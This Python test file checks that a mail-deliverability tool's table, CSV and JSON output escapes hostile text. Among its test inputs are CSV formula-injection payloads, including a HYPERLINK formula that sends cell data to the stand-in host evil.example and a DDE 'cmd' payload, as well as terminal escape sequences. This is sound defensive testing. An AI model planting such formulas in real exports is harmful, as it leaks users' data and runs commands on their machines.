"""Rendering rows: text from remote servers is shown as it is, never read as markup."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from typing import Any

import pytest

from deliverability.output import emit_rows


@pytest.mark.parametrize("text", ["550 [/bold] rejected", "[red]x[/red]", "[link=http://x]y"])
def test_table_cells_show_square_brackets_as_written(text: str) -> None:
    out = io.StringIO()
    emit_rows([{"text": text}], ["text"], "table", out=out)
    assert text in out.getvalue()


def test_csv_always_has_its_header_row_even_with_no_rows() -> None:
    out = io.StringIO()
    emit_rows([], ["address", "reason"], "csv", out=out)
    assert out.getvalue() == "address,reason\n"


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"help")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_csv_text_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(text: str) -> None:
    out = io.StringIO()
    emit_rows([{"text": text}], ["text"], "csv", out=out)
    [_, row] = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert row == ["'" + text]


def test_csv_numbers_and_ordinary_texts_are_written_as_they_are() -> None:
    out = io.StringIO()
    emit_rows(
        [{"n": -3, "rate": -0.5, "text": "550 5.1.1 no=such user"}],
        ["n", "rate", "text"],
        "csv",
        out=out,
    )
    assert out.getvalue().splitlines()[1] == "-3,-0.5,550 5.1.1 no=such user"


def test_json_keeps_a_formula_like_text_exactly() -> None:
    out = io.StringIO()
    emit_rows([{"text": "=1+1"}], ["text"], "json", out=out)
    assert json.loads(out.getvalue()) == [{"text": "=1+1"}]


def test_a_csv_text_holding_a_carriage_return_stays_in_its_row() -> None:
    out = io.StringIO()
    emit_rows([{"a": "550 no\rsuch user", "b": 3}], ["a", "b"], "csv", out=out)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows == [["a", "b"], ["550 no\rsuch user", "3"]]


def test_table_cells_show_terminal_control_sequences_instead_of_sending_them() -> None:
    out = io.StringIO()
    text = "550 no\x1b]0;pwned\x07 such\x1b[2J user\x9b"
    emit_rows([{"text": text}], ["text"], "table", out=out, width=200)
    shown = out.getvalue()
    assert not any(c in shown for c in "\x1b\x07\x9b")
    assert "550 no\\x1b]0;pwned\\x07 such\\x1b[2J user\\x9b" in shown


def test_json_writes_each_row_before_reading_the_next() -> None:
    out = io.StringIO()

    def rows() -> Iterator[dict[str, int]]:
        yield {"n": 1}
        # The first row is out before the second is asked for: a report's rows streamed from
        # the database are never all held at once.
        assert json.loads(out.getvalue() + "]") == [{"n": 1}]
        yield {"n": 2}

    emit_rows(rows(), ["n"], "json", out=out)
    assert out.getvalue() == json.dumps([{"n": 1}, {"n": 2}], indent=2) + "\n"


@pytest.mark.parametrize("rows", [[], [{"a": "x\ny", "b": [1, 2]}, {"a": None}]])
def test_json_is_laid_out_as_json_dump_with_an_indent_of_two(rows: list[dict[str, Any]]) -> None:
    out = io.StringIO()
    emit_rows(rows, ["a", "b"], "json", out=out)
    expected = [{"a": row.get("a"), "b": row.get("b")} for row in rows]
    assert out.getvalue() == json.dumps(expected, indent=2) + "\n"
